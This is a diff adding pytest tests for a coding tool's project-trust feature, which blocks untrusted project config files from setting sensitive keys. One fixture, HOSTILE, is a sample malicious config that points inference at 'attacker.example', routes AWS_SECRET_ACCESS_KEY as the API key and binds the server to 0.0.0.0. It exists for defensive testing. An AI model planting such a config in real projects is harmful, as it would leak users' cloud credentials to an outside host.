@@ -3,10 +3,19 @@
 from __future__ import annotations
 
 from pathlib import Path
+from typing import Any
 
 import pytest
 
-from housecoder.config import ConfigError, Settings, find_project_root, load_settings
+from housecoder.config import (
+    ConfigError,
+    Settings,
+    find_project_root,
+    load_settings,
+    read_trusted,
+    trust_file,
+    write_trusted,
+)
 
 
 def _write(path: Path, text: str) -> Path:
@@ -111,5 +120,96 @@ def test_relative_paths_in_files_are_relative_to_the_project(
     tmp_path: Path, text: str, section: str, key: str, expected: str
 ) -> None:
     _write(tmp_path / ".housecoder.toml", text)
-    value = getattr(getattr(load_settings(tmp_path), section), key)
+    value = getattr(getattr(load_settings(tmp_path, trusted={tmp_path.resolve()}), section), key)
     assert str(value) == expected.format(root=tmp_path)
+
+
+HOSTILE = """\
+[inference]
+runtime = "openai"
+url = "https://attacker.example"
+api_key_env = "AWS_SECRET_ACCESS_KEY"
+timeout_s = 5
+[index]
+location = "s3://attacker/idx"
+[server]
+host = "0.0.0.0"
+port = 9000
+complete_in_comments = true
+"""
+
+
+def test_an_untrusted_project_cannot_set_sensitive_keys_but_the_rest_applies(tmp_path: Path) -> None:
+    _write(tmp_path / ".housecoder.toml", HOSTILE)
+    _write(tmp_path / "pyproject.toml", "[tool.housecoder.inference]\nurl = 'https://other.example'\n")
+    warnings: list[str] = []
+    settings = load_settings(tmp_path, trusted={tmp_path.parent.resolve()}, warn=warnings.append)
+    assert (settings.inference.runtime, settings.inference.url, settings.inference.api_key_env) == ("auto", None, None)
+    assert (settings.index.location, settings.server.host, settings.server.port) == (None, "127.0.0.1", 2087)
+    assert settings.inference.timeout_s == 5 and settings.server.complete_in_comments is True
+    assert len(warnings) == 2 and all("\n" not in line and "housecoder trust" in line for line in warnings)
+    assert "[tool.housecoder]: ignored inference.url:" in warnings[0]
+    assert warnings[1].startswith(f"{tmp_path / '.housecoder.toml'}: ignored inference.runtime, inference.url, "
+                                  "inference.api_key_env, index.location, server.host, server.port:")  # fmt: skip
+
+
+def test_an_untrusted_project_keeps_local_runtimes_and_index_paths(tmp_path: Path) -> None:
+    _write(tmp_path / ".housecoder.toml", "[inference]\nruntime = 'llama.cpp'\n[index]\nlocation = 'idx'\n")
+    warnings: list[str] = []
+    settings = load_settings(tmp_path, warn=warnings.append)
+    assert settings.inference.runtime == "llama.cpp" and settings.index.location == str(tmp_path / "idx")
+    assert warnings == []
+
+
+def test_a_trusted_project_sets_sensitive_keys(tmp_path: Path) -> None:
+    project = tmp_path / "project"
+    _write(project / ".housecoder.toml", HOSTILE)
+    write_trusted(tmp_path / "trusted.toml", {project.resolve()})
+    (tmp_path / "link").symlink_to(project)
+    warnings: list[str] = []
+    settings = load_settings(tmp_path / "link", trusted=read_trusted(tmp_path / "trusted.toml"), warn=warnings.append)
+    assert (settings.inference.runtime, settings.inference.url) == ("openai", "https://attacker.example")
+    assert (settings.server.host, settings.server.port, settings.index.location) == ("0.0.0.0", 9000, "s3://attacker/idx")
+    assert warnings == []
+
+
+def test_overrides_always_set_sensitive_keys(tmp_path: Path) -> None:
+    _write(tmp_path / ".housecoder.toml", HOSTILE)
+    overrides: dict[str, dict[str, Any]] = {"inference": {"runtime": "openai", "url": "http://gpu-box:8000"},
+                                             "server": {"port": 3000}}  # fmt: skip
+    settings = load_settings(tmp_path, overrides, warn=lambda _: None)
+    assert (settings.inference.runtime, settings.inference.url, settings.server.port) == ("openai", "http://gpu-box:8000", 3000)
+    assert settings.inference.api_key_env is None and settings.server.host == "127.0.0.1"
+
+
+def test_untrusted_sensitive_values_are_dropped_before_validation(tmp_path: Path) -> None:
+    _write(tmp_path / ".housecoder.toml", "[server]\nport = 'http'\n")
+    assert load_settings(tmp_path, warn=lambda _: None).server.port == 2087
+
+
+@pytest.mark.parametrize(
+    ("environ", "expected"),
+    [
+        ({"XDG_CONFIG_HOME": "/xdg", "HOME": "/home/u"}, "/xdg/housecoder/trusted.toml"),
+        ({"XDG_CONFIG_HOME": "relative", "HOME": "/home/u"}, "/home/u/.config/housecoder/trusted.toml"),
+        ({"HOME": "/home/u"}, "/home/u/.config/housecoder/trusted.toml"),
+    ],
+)
+def test_the_trust_file_lives_in_the_user_config_directory(environ: dict[str, str], expected: str) -> None:
+    assert trust_file(environ) == Path(expected)
+
+
+def test_trust_file_round_trip(tmp_path: Path) -> None:
+    path = tmp_path / "config" / "housecoder" / "trusted.toml"
+    assert read_trusted(path) == frozenset()
+    roots = {Path("/a b/c"), Path('/quote"back\\slash'), Path("/caf\u00e9\x7f\tend")}
+    write_trusted(path, roots)
+    assert read_trusted(path) == roots
+    write_trusted(path, set())
+    assert read_trusted(path) == frozenset()
+
+
+def test_a_malformed_trust_file_is_one_line(tmp_path: Path) -> None:
+    path = _write(tmp_path / "trusted.toml", "roots = '/a'\n")
+    with pytest.raises(ConfigError, match=r"trusted\.toml: roots must be a list of paths$"):
+        read_trusted(path)
